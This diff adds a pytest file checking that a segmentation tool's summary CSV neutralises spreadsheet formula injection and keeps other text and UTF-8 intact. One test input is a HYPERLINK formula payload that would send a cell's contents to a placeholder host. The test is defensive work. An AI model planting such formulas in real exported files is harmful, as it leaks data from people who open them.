@@ -1,0 +1,46 @@
+"""summary.csv: harmless in a spreadsheet whatever scans are called, numbers as they are."""
+
+import csv
+from pathlib import Path
+
+import pytest
+
+from parotid_seg.runtime.journal import Entry
+from parotid_seg.runtime.summary import harmless, write_summary
+
+LABELS = ("background", "parotid_left", "parotid_right")
+
+
+def read(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
+def test_no_text_is_a_formula(tmp_path, first):
+    evil = f'{first}HYPERLINK("http://x?"&A1,"see")'
+    sizes = {"parotid_left": 20.0, evil: 3.0}
+    entry = Entry(evil, evil, "", "done", evil, evil, flags=(evil,), volumes_ml=sizes, seconds={"read": 1e-05})
+    write_summary([entry], ("background", "parotid_left", evil), tmp_path / "summary.csv")
+    (row,) = read(tmp_path / "summary.csv")
+    assert {name: row[name] for name in ("case", "flags", "reason", "mask", "source")} == dict.fromkeys(
+        ("case", "flags", "reason", "mask", "source"), f"'{evil}"
+    )
+    assert (row["left_ml"], row[f"'{evil}_ml"], row["read_s"]) == ("20.00", "3.00", "1e-05")
+    assert not any(text.startswith(first) for cell in row.items() for text in cell)
+
+
+def test_other_texts_stay(tmp_path):
+    entry = Entry("a-1", "/scans/a=1.nii.gz", "", "failed", 'no "CT", only\nthis')
+    write_summary([entry], LABELS, tmp_path / "summary.csv")
+    (row,) = read(tmp_path / "summary.csv")
+    assert (row["case"], row["source"], row["reason"]) == ("a-1", "/scans/a=1.nii.gz", 'no "CT", only\nthis')
+    assert (row["left_ml"], row["flags"]) == ("", "")
+    assert harmless("") == ""
+
+
+def test_it_is_utf8_with_its_own_line_ends(tmp_path):
+    write_summary([Entry("Müller-李", "/Größe.nii", "", "done")], LABELS, tmp_path / "summary.csv")
+    content = (tmp_path / "summary.csv").read_bytes()
+    assert content.count(b"\r\n") == content.count(b"\n") == 2
+    assert "Müller-李".encode() in content
